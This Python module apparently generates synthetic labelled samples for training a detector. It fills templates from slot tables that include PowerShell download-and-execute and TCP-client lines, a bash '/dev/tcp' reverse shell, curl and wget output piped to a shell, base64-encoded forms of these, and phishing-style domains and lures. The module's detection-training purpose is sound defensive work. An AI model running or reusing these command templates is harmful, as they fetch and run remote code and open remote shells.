"""Templates and their slots: `{user}`, `{ip}`, `{word}` and the like, filled the same way every time."""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import yaml

from tools.train.fitting import Sample
from tools.train.words import WORDS

_SLOT = re.compile(r"\{([a-z]+\d*)\}")
_LINES: dict[str, str] = {
    "user": "anna | b.keller | jsmith | svc_backup | admin1 | maria | tom | deploy | olga | administrator",
    "host": "fs01 | srv-dc01 | web02 | db03.corp.example | app-prod-1 | WKS-1042 | 10.20.4.15 | backup01 | exch01",
    "site": "packages.example.org | www.example.com | get.docker.com | api.github.com | intranet.corp.example",
    "domain": "corp | CORP.LOCAL | contoso.com | example.local",
    "port": "80 | 443 | 4444 | 8080 | 8443 | 9001 | 1337 | 53 | 5432 | 31337 | 6666 | 50050",
    "app": "Contoso Agent | Acme Viewer | Dell Command | Lenovo Vantage | Citrix Workspace | Zoom | Notepad++ | SAP GUI"
    " | VMware Tools | Java Update | FortiClient | TeamViewer | Bitwarden | Foxit | Intel Driver",
    "svc": "Spooler | W32Time | wuauserv | BITS | Schedule | EventLog | Dnscache | LanmanServer | Themes | WinRM"
    " | TermService | gpsvc | ProfSvc | AppMgmt | MSSQL$PROD",
    "svcgroup": "netsvcs | LocalService | NetworkService | DcomLaunch | LocalServiceNetworkRestricted | print",
    "drop": "C:\\Users\\Public | C:\\Windows\\Temp | C:\\ProgramData | %TEMP% | C:\\Temp | C:\\PerfLogs | C:\\tmp"
    " | C:\\Users\\{user}\\AppData\\Local\\Temp | C:\\Users\\{user}\\Downloads | C:\\Windows\\Tasks",
    "userdir": "C:\\Users\\{user}",
    "badsite": "{word}{word}.top | {word}-{word}.xyz | {word}{word}.ru | {word}{word}.cc | {word}{n}.com | {word}.site",
    "script": "IEX (New-Object Net.WebClient).DownloadString('http://{ip}/{word}') | Invoke-Expression $x"
    " | Start-Process {drop}\\{word}.exe | $c=New-Object Net.Sockets.TCPClient('{ip}',{port})"
    " | Invoke-WebRequest http://{ip}/{word} -OutFile {drop}\\{word}.exe",
    "shell": "curl http://{ip}/{word}#sh | bash -i >& /dev/tcp/{ip}/{port} 0>&1 | wget -qO- {ip}/{word}#bash",
    "brand": "paypal | microsoft | office365 | apple | netflix | dhl | amazon | docusign | wellsfargo | chase",
    "link": "http://{badsite}/{word} | https://{badsite}/{lure} | http://{ip}/{word}",
    "lure": "login | secure | verify | account | update | signin | billing | webmail | confirm | unlock",
}
_CHOICES = {name: tuple(text.split(" | ")) for name, text in _LINES.items()}


def _letters(letters: str, count: int) -> Callable[[random.Random], str]:
    return lambda draw: "".join(draw.choices(letters, k=count))


def _b64(text: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


def _word(draw: random.Random) -> str:
    return draw.choice(WORDS) if draw.random() < 0.7 else _letters("abcdefghijklmnoprstuvwxyz0123456789", 7)(draw)


def _guid(draw: random.Random) -> str:
    return "{" + "-".join(f"{draw.getrandbits(4 * size):0{size}X}" for size in (8, 4, 4, 4, 12)) + "}"


_DRAWN: dict[str, Callable[[random.Random], str]] = {
    "word": _word,
    "ip": lambda draw: ".".join(str(draw.randint(1, 254)) for _ in range(4)),
    "n": lambda draw: str(draw.randint(0, 10 ** draw.randint(1, 5))),
    "guid": _guid,
    **{f"hex{size}": _letters("0123456789abcdef", size) for size in (8, 16, 32, 64)},
    "b64": lambda draw: base64.b64encode(draw.randbytes(draw.randint(18, 90))).decode(),
    "ps": lambda draw: _b64(filled("{script}", draw), "utf-16-le"),
    "shb64": lambda draw: _b64(filled("{shell}", draw).replace("#", "|")),
    "ansible": lambda draw: _b64(f"begin {{ $path = $env:TEMP }} process {{ $path }} # {_word(draw)}", "utf-16-le"),
    "doc": lambda draw: f"{draw.choice(WORDS).title()} {draw.choice(WORDS)} {draw.randint(2019, 2027)}",
}


def filled(template: str, draw: random.Random) -> str:
    """A template with its slots filled; what is in braces and no slot stays. Slots may hold slots."""

    def value(slot: re.Match[str]) -> str:
        name = slot[1]
        return _DRAWN[name](draw) if name in _DRAWN else draw.choice(_CHOICES.get(name, (slot[0],)))

    text = template
    for _ in range(3):
        text = _SLOT.sub(value, text)
    return text


def templates(name: str, each: int, finished: Callable[[str, random.Random], str]) -> Iterator[Sample]:
    """Every template of a file beside this one, `each` times at most; `finished` gets what was filled."""
    for side, families in yaml.safe_load(Path(__file__).with_name(name).read_text(encoding="utf-8")).items():
        for family, lines in families.items():
            draw = random.Random(family)
            for line in lines:
                texts = dict.fromkeys(finished(filled(line, draw), draw) for _ in range(each))
                for count, text in enumerate(filter(None, texts)):
                    group, named = f"template {line}", f"templates {family}"
                    yield Sample(text, side == "bad", group, named, scored=not count)
